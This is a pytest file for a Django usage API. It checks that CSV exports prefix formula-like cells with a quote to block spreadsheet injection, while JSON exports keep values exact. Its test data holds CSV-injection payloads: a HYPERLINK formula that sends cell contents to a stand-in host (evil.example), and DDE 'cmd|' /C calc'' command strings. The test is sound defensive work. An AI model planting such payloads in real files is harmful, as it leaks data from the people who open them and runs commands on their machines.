"""The CSV export neutralises cells a spreadsheet would run as formulas (OWASP's CSV injection
advice: a leading quote); JSON and JSON Lines keep every value exact. Both legs: SQLite writes
the CSV in Python, Postgres with COPY."""

from __future__ import annotations

import csv
import io
import json
from datetime import datetime, timedelta
from pathlib import Path

import pytest
from django.core.management import call_command
from django.test import Client

from tests.usage import monitoring
from tests.usage.monitoring import call, write_calls

api = monitoring.api
monitor_token = monitoring.monitor_token
now = monitoring.now

pytestmark = pytest.mark.django_db

# Each names what its cell must become in the CSV. What upstreams and clients control: the
# error type, the client (token name), the requested route and the upstream model.
HOSTILE = {
    "client": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "requested_model": "+1+cmd|' /C calc'!A0",
    "error_type": "@SUM(1+1)*cmd|' /C calc'!A0",
    "upstream_model": "-2+3, with a comma",
    "provider": "\tleading-tab",
    "key_id": "\r=1",
}


def body(response: object) -> str:
    return b"".join(response.streaming_content).decode()  # type: ignore[attr-defined]


@pytest.fixture
def hostile(now: datetime) -> None:
    write_calls(
        [
            call(request_id="evil", started_at=now - timedelta(minutes=2), **HOSTILE),
            # Cells that do not start like a formula stay as they are; one holding a bare CR is
            # quoted, or a spreadsheet would start a new row (here, a formula) at it.
            call(
                request_id="fine",
                started_at=now - timedelta(minutes=1),
                client="a-b=c",
                error_type="upstream said\r=1+1",
            ),
        ]
    )


def csv_rows(text: str) -> dict[str, dict[str, str]]:
    return {row["request_id"]: row for row in csv.DictReader(io.StringIO(text, newline=""))}


def assert_neutralised(rows: dict[str, dict[str, str]]) -> None:
    assert list(rows) == ["evil", "fine"]
    evil = rows["evil"]
    for column, value in HOSTILE.items():
        assert evil[column] == "'" + value, column
    # Numbers and timestamps are not text cells and are left alone.
    assert evil["status_code"] == "200"
    assert evil["started_at"][:4].isdigit()
    assert rows["fine"]["client"] == "a-b=c"
    assert rows["fine"]["error_type"] == "upstream said\r=1+1"


@pytest.mark.usefixtures("hostile")
def test_the_csv_export_prefixes_formula_cells_with_a_quote_json_keeps_them_exact(
    api: Client,
) -> None:
    assert_neutralised(csv_rows(body(api.get("/api/usage/export?format=csv"))))

    records = json.loads(body(api.get("/api/usage/export?format=json")))
    lines = body(api.get("/api/usage/export?format=jsonl")).splitlines()
    for exported in (records, [json.loads(line) for line in lines]):
        evil = next(r for r in exported if r["request_id"] == "evil")
        assert {column: evil[column] for column in HOSTILE} == HOSTILE


@pytest.mark.usefixtures("hostile")
def test_the_export_command_writes_the_same_neutralised_csv(tmp_path: Path) -> None:
    out = tmp_path / "usage.csv"
    call_command("export_usage", "--format=csv", f"--output={out}", stderr=io.StringIO())
    with out.open(newline="") as written:
        assert_neutralised(csv_rows(written.read()))
